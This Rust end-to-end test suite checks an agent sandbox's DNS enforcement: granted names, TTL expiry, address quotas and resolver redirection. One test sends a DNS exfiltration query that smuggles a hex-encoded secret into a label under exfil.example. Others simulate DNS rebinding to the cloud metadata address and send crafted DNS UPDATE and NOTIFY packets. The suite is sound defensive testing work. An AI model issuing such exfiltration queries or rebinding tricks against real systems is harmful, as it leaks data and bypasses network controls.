//! Name rules on this host's kernel: a real dnsmasq serves the zone, the agents resolve with
//! their own resolver libraries (getaddrinfo, Python's `socket`, dig, curl), and the kernel sends
//! their DNS to the task's resolver in the daemon whatever server they ask.

use std::process::{Child, Command, Stdio};

use agent_guard_e2e::{Daemon, grant, listener, stdout};

const PROBE: &str = env!("CARGO_BIN_EXE_ag-probe");

/// dnsmasq serving `.test` on a loopback port; killed when dropped.
struct Zone {
    child: Child,
    port: u16,
}

impl Zone {
    /// Answers with TTL `ttl` seconds. The port is picked by binding and dropping a socket, so
    /// a parallel test can take it before dnsmasq binds it: dnsmasq then exits, and the zone
    /// starts again on a fresh port.
    fn start(ttl: u32) -> Zone {
        for _ in 0..5 {
            if let Some(zone) = Zone::try_start(ttl) {
                return zone;
            }
        }
        panic!("dnsmasq did not start on any of 5 ports");
    }

    fn try_start(ttl: u32) -> Option<Zone> {
        let port = std::net::UdpSocket::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
        let child = Command::new("dnsmasq")
            .args([
                "--keep-in-foreground",
                "--no-resolv",
                "--no-hosts",
                "--bind-interfaces",
                "--listen-address=127.0.0.1",
                &format!("--port={port}"),
                &format!("--local-ttl={ttl}"),
                "--cache-size=0",
                "--pid-file=",
                "--user=root",
                "--local=/test/",
                "--host-record=api.granted.test,127.0.0.10,fd00::10",
                "--host-record=other.test,127.0.0.11",
                "--host-record=a.wild.test,127.0.0.12",
                "--host-record=wild.test,127.0.0.13",
                "--host-record=other-wild.test,127.0.0.14",
                "--host-record=meta.granted.test,169.254.169.254",
                "--host-record=n1.cap.test,127.0.0.21",
                "--host-record=n2.cap.test,127.0.0.22",
                "--host-record=n3.cap.test,127.0.0.23",
            ])
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("dnsmasq (installed by cargo xtask test: dnsmasq-base) must run");
        let mut zone = Zone { child, port };
        // Ready when it answers, straight (the test is untagged).
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
        loop {
            if zone.child.try_wait().unwrap().is_some() {
                return None; // the port was taken
            }
            let out = Command::new("dig")
                .args(["+short", "+time=1", "+tries=1", "-p", &port.to_string(), "@127.0.0.1", "other.test"])
                .output()
                .expect("dig (installed by cargo xtask test: bind9-dnsutils) must run");
            if String::from_utf8_lossy(&out.stdout).trim() == "127.0.0.11" {
                return Some(zone);
            }
            if std::time::Instant::now() >= deadline {
                return None; // dropping the zone kills it
            }
            std::thread::sleep(std::time::Duration::from_millis(100));
        }
    }
}

impl Drop for Zone {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// A daemon whose resolvers ask `zone`, with a `floor`-second TTL floor. The zone's names
/// answer loopback addresses (the test listeners'), which answers may allow here.
fn daemon_for(zone: &Zone, floor: u32) -> Daemon {
    daemon_with(zone, &format!("ttlFloor: {floor}s, localAnswers: [\"127.0.0.0/8\"]"))
}

/// A daemon whose resolvers ask `zone`, with `dns` settings (YAML flow-map entries) added.
fn daemon_with(zone: &Zone, dns: &str) -> Daemon {
    let config = format!(
        "outputs: [{{type: file, path: \"{{events}}\"}}]\naggregation: {{window: 0s}}\ndns: {{upstream: [\"127.0.0.1:{}\"], {dns}}}\n",
        zone.port
    );
    Daemon::start_configured(Some(&config), &[])
}

fn dns_event<'a>(events: &'a [serde_json::Value], agent: &str, question: &str) -> Option<&'a serde_json::Value> {
    events
        .iter()
        .find(|e| e["kind"] == "network.dns" && e["task"]["agent"] == agent && e["object"]["question"] == question)
}

#[test]
fn a_granted_name_resolves_and_connects_and_nothing_else_does() {
    let zone = Zone::start(300);
    let daemon = daemon_for(&zone, 1);
    let port = listener("0.0.0.0:0");
    let g = grant(daemon.dir.path(), "named", "enforce", &[format!("api.granted.test:{port}")], "");

    // getaddrinfo, with whatever server /etc/resolv.conf names: the task's resolver answers.
    let out =
        daemon.run("namer", "call the api", &g, &[PROBE, "resolve-connect", "api.granted.test", &port.to_string()]);
    assert_eq!(stdout(&out), "ok", "{out:?}");
    let asked = daemon.wait_event("dns answer", |e| {
        e["kind"] == "network.dns" && e["task"]["agent"] == "namer" && e["object"]["qtype"] == "A"
    });
    assert_eq!(asked["decision"], "allowed", "{asked}");
    assert_eq!(asked["object"]["rcode"], "NOERROR", "{asked}");
    assert!(asked["object"]["answers"].as_array().unwrap().contains(&"127.0.0.10".into()), "{asked}");
    assert!(asked["rule"].as_str().unwrap().contains("api.granted.test"), "{asked}");

    // A name the grant does not name: refused at the resolver, reported.
    let out = daemon.run("namer", "look around", &g, &[PROBE, "resolve", "other.test"]);
    assert_eq!(stdout(&out), "unresolved", "{out:?}");
    let refused =
        daemon.wait_event("refused", |e| e["kind"] == "network.dns" && e["object"]["question"] == "other.test");
    assert_eq!((refused["decision"].as_str(), refused["object"]["rcode"].as_str()), (Some("denied"), Some("REFUSED")));
    assert_eq!(refused["rule"], "default-deny", "{refused}");

    // Its address, reached without asking (or after another task asked): denied in the kernel.
    let out = daemon.run("namer", "go around", &g, &[PROBE, "connect", &format!("127.0.0.11:{port}")]);
    assert_eq!(stdout(&out), "EPERM", "{out:?}");
    // And the granted name's address on another port: the rule's ports only.
    let other_port = listener("0.0.0.0:0");
    let out =
        daemon.run("namer", "other port", &g, &[PROBE, "resolve-connect", "api.granted.test", &other_port.to_string()]);
    assert_eq!(stdout(&out), "EPERM", "{out:?}");
    // A connect event names the name its address came from.
    let connect = daemon.wait_event("connect", |e| {
        e["kind"] == "network.connect" && e["task"]["intent"] == "other port" && e["decision"] == "denied"
    });
    assert_eq!(connect["object"]["learned_from"], "api.granted.test", "{connect}");
}

#[test]
fn every_resolver_library_and_transport_goes_through_the_task_resolver() {
    let zone = Zone::start(300);
    let daemon = daemon_for(&zone, 1);
    let port = listener("0.0.0.0:0");
    let g = grant(daemon.dir.path(), "named", "enforce", &[format!("api.granted.test:{port}")], "");
    // dig straight at a public server, over UDP, TCP and IPv6: none of it leaves the host.
    for (agent, extra) in [("dig-udp", "@8.8.8.8"), ("dig-tcp", "+tcp"), ("dig-v6", "@::1")] {
        let mut args = vec!["/usr/bin/dig", "+short", "+time=3", "+tries=1", "api.granted.test"];
        if extra == "+tcp" {
            args.extend(["+tcp", "@9.9.9.9"]);
        } else {
            args.push(extra);
        }
        let out = daemon.run(agent, "resolve", &g, &args);
        assert_eq!(stdout(&out), "127.0.0.10", "{agent}: {out:?}");
        let events = daemon.events();
        let asked = dns_event(&events, agent, "api.granted.test").unwrap_or_else(|| panic!("{agent}: no dns event"));
        let transport = if extra == "+tcp" { "tcp" } else { "udp" };
        assert_eq!(asked["object"]["transport"], transport, "{asked}");
    }
    // Python's socket module, then the connect.
    let script = format!(
        "import socket; a = socket.getaddrinfo('api.granted.test', {port}, socket.AF_INET)[0][4]; socket.create_connection(a, 5); print('ok')"
    );
    let out = daemon.run("python", "resolve", &g, &["/usr/bin/python3", "-c", &script]);
    assert_eq!(stdout(&out), "ok", "{out:?}");
    // curl, by name.
    let out = daemon.run(
        "curl",
        "fetch",
        &g,
        &[
            "/usr/bin/curl",
            "-s",
            "-o",
            "/dev/null",
            "-w",
            "%{http_code}",
            "--max-time",
            "5",
            &format!("http://api.granted.test:{port}/"),
        ],
    );
    // The listener accepts and closes: curl got as far as connecting (52: empty reply, 56: reset;
    // a refused connect is 7, an unresolved name 6).
    assert!(matches!(out.status.code(), Some(52 | 56)), "{out:?}");
    let events = daemon.events();
    assert!(dns_event(&events, "curl", "api.granted.test").is_some_and(|e| e["decision"] == "allowed"));
}

#[test]
fn a_suffix_rule_admits_sub_names_and_not_the_suffix_or_its_siblings() {
    let zone = Zone::start(300);
    let daemon = daemon_for(&zone, 1);
    let port = listener("0.0.0.0:0");
    let g = grant(daemon.dir.path(), "wild", "enforce", &[format!("*.wild.test:{port}")], "");
    let resolve = |name: &str| stdout(&daemon.run("wild", name, &g, &[PROBE, "resolve", name]));
    assert_eq!(resolve("a.wild.test"), "127.0.0.12");
    assert_eq!(resolve("wild.test"), "unresolved");
    assert_eq!(resolve("other-wild.test"), "unresolved");
}

#[test]
fn a_learned_address_is_denied_again_when_its_ttl_runs_out() {
    let zone = Zone::start(1);
    let daemon = daemon_for(&zone, 1);
    let port = listener("0.0.0.0:0");
    let g = grant(daemon.dir.path(), "short", "enforce", &[format!("api.granted.test:{port}")], "");
    // One process: resolve and connect, wait past the TTL, connect again without asking, then
    // ask again and connect.
    let to = format!("127.0.0.10:{port}");
    let out = daemon.run("ttl", "expire", &g, &[PROBE, "resolve-connect", "api.granted.test", &port.to_string()]);
    assert_eq!(stdout(&out), "ok", "{out:?}");
    std::thread::sleep(std::time::Duration::from_millis(2500));
    let out = daemon.run("ttl", "stale", &g, &[PROBE, "connect", &to]);
    assert_eq!(stdout(&out), "EPERM", "after the TTL: {out:?}");
    let out = daemon.run("ttl", "again", &g, &[PROBE, "resolve-connect", "api.granted.test", &port.to_string()]);
    assert_eq!(stdout(&out), "ok", "after asking again: {out:?}");
}

#[test]
fn data_smuggled_in_labels_is_refused_and_reported_as_suspected_exfiltration() {
    let zone = Zone::start(300);
    let daemon = daemon_for(&zone, 1);
    let g = grant(daemon.dir.path(), "leaky", "enforce", &["api.granted.test:443".to_string()], "");
    let name = "4a6f686e20446f65207061737377307264.exfil.example";
    let out = daemon.run(
        "leaker",
        "phone home",
        &g,
        &["/usr/bin/dig", "+short", "+time=2", "+tries=1", "TXT", name, "@1.1.1.1"],
    );
    assert!(!stdout(&out).contains('"'), "no answer came back: {out:?}");
    let event = daemon.wait_event("exfil", |e| e["kind"] == "network.dns" && e["task"]["agent"] == "leaker");
    assert_eq!(event["decision"], "denied", "{event}");
    assert_eq!(event["object"]["qtype"], "TXT", "{event}");
    assert_eq!(event["object"]["suspected_exfiltration"], true, "{event}");
}

#[test]
fn a_granted_name_answering_a_local_address_allows_nothing_there() {
    // DNS rebinding: whoever answers for a granted name points it at this host or at the
    // cloud metadata service. Default settings: local answers allow nothing.
    let zone = Zone::start(300);
    let daemon = daemon_with(&zone, "ttlFloor: 1s");
    let port = listener("0.0.0.0:0");
    let g = grant(
        daemon.dir.path(),
        "rebind",
        "enforce",
        &[format!("*.granted.test:{port}"), "*.granted.test:80".into()],
        "",
    );
    let out = daemon.run("rebind", "loopback", &g, &[PROBE, "resolve-connect", "api.granted.test", &port.to_string()]);
    assert_eq!(stdout(&out), "EPERM", "the loopback answer was allowed: {out:?}");
    let asked = daemon.wait_event("dns answer", |e| {
        e["kind"] == "network.dns" && e["task"]["intent"] == "loopback" && e["object"]["qtype"] == "A"
    });
    assert_eq!(asked["object"]["withheld"], serde_json::json!(["127.0.0.10"]), "{asked}");
    assert!(asked["object"].get("answers").is_none(), "{asked}");
    // The metadata address: refused by the kernel before any packet (EPERM, not a timeout).
    let out = daemon.run("rebind", "metadata", &g, &[PROBE, "resolve-connect", "meta.granted.test", "80"]);
    assert_eq!(stdout(&out), "EPERM", "the link-local answer was allowed: {out:?}");
    let asked = daemon.wait_event("dns answer", |e| {
        e["kind"] == "network.dns" && e["task"]["intent"] == "metadata" && e["object"]["qtype"] == "A"
    });
    assert_eq!(asked["object"]["withheld"], serde_json::json!(["169.254.169.254"]), "{asked}");
}

#[test]
fn a_task_holds_at_most_max_addresses_and_an_answer_past_it_learns_nothing() {
    let zone = Zone::start(300);
    let daemon = daemon_with(&zone, "localAnswers: [\"127.0.0.0/8\"], maxAddresses: 2");
    let port = listener("0.0.0.0:0");
    let g = grant(daemon.dir.path(), "capped", "enforce", &[format!("*.cap.test:{port}")], "");
    let script = format!(
        "import socket\nfor n in ['n1', 'n2', 'n3', 'n1']:\n    try:\n        a = socket.getaddrinfo(n + '.cap.test', {port}, socket.AF_INET, socket.SOCK_STREAM)[0][4]\n    except OSError:\n        print(n, 'unresolved'); continue\n    try:\n        socket.create_connection(a, 5).close(); print(n, 'ok')\n    except OSError as e:\n        print(n, e.errno)\n"
    );
    let out = daemon.run("capped", "three names", &g, &["/usr/bin/python3", "-c", &script]);
    assert_eq!(stdout(&out), "n1 ok\nn2 ok\nn3 unresolved\nn1 ok", "{out:?}");
    // Its address, straight: never learned.
    let out = daemon.run("capped", "around", &g, &[PROBE, "connect", &format!("127.0.0.23:{port}")]);
    assert_eq!(stdout(&out), "EPERM", "{out:?}");
    let asked = daemon.wait_event("n3", |e| e["kind"] == "network.dns" && e["object"]["question"] == "n3.cap.test");
    assert_eq!(asked["object"]["rcode"], "SERVFAIL", "{asked}");
}

#[test]
fn only_a_plain_question_is_answered() {
    // Raw messages from the agent: two questions in one, a DNS UPDATE, a NOTIFY. Each gets
    // REFUSED (rcode 5) or nothing, and nothing reaches the server as sent.
    let zone = Zone::start(300);
    let daemon = daemon_for(&zone, 1);
    let g = grant(daemon.dir.path(), "raw", "enforce", &["api.granted.test:443".to_string()], "");
    let script = r"
import socket, struct
def name(n):
    return b''.join(bytes([len(l)]) + l.encode() for l in n.split('.')) + b'\0'
q = name('api.granted.test') + struct.pack('>HH', 1, 1)
cases = {
    'two-questions': struct.pack('>HHHHHH', 1, 0x0100, 2, 0, 0, 0) + q + q,
    'update': struct.pack('>HHHHHH', 2, 5 << 11, 1, 0, 0, 0) + name('granted.test') + struct.pack('>HH', 6, 1),
    'notify': struct.pack('>HHHHHH', 3, 4 << 11, 1, 0, 0, 0) + q,
    'plain': struct.pack('>HHHHHH', 4, 0x0100, 1, 0, 0, 0) + q,
}
for what, msg in cases.items():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(3)
    s.sendto(msg, ('192.0.2.53', 53))
    try:
        reply = s.recv(4096)
        print(what, reply[3] & 15, struct.unpack('>H', reply[6:8])[0])
    except socket.timeout:
        print(what, 'none')
";
    let out = daemon.run("raw", "raw messages", &g, &["/usr/bin/python3", "-c", script]);
    // rcode, then the answer count.
    assert_eq!(stdout(&out), "two-questions 5 0\nupdate 5 0\nnotify 5 0\nplain 0 1", "{out:?}");
}

#[test]
fn sub_tasks_share_their_roots_address_quota() {
    // dns.maxAddresses is the task tree's: opening sub-tasks does not multiply it.
    let zone = Zone::start(300);
    let daemon = daemon_with(&zone, "localAnswers: [\"127.0.0.0/8\"], maxAddresses: 2");
    let port = listener("0.0.0.0:0");
    let g = grant(daemon.dir.path(), "tree", "enforce", &[format!("*.cap.test:{port}")], "");
    let resolve = |names: &str| {
        format!(
            "import socket\nfor n in {names}:\n    try:\n        socket.getaddrinfo(n + '.cap.test', 80, socket.AF_INET); print(n, 'resolved')\n    except OSError:\n        print(n, 'unresolved')\n"
        )
    };
    let inner = format!(
        "{} --socket {} run --agent sub --intent 'one more name' --grant {} -- /usr/bin/python3 -c \"{}\"",
        agent_guard_e2e::agent_guard_bin().display(),
        daemon.socket.display(),
        g.display(),
        resolve("['n2', 'n3']")
    );
    let script = format!("/usr/bin/python3 -c \"{}\" && {inner}", resolve("['n1']"));
    let out = daemon.run("tree", "two levels", &g, &["/bin/sh", "-c", &script]);
    // n1 by the root, n2 by its sub-task: the tree's two; n3 would be a third.
    assert_eq!(stdout(&out), "n1 resolved\nn2 resolved\nn3 unresolved", "{out:?}");
}
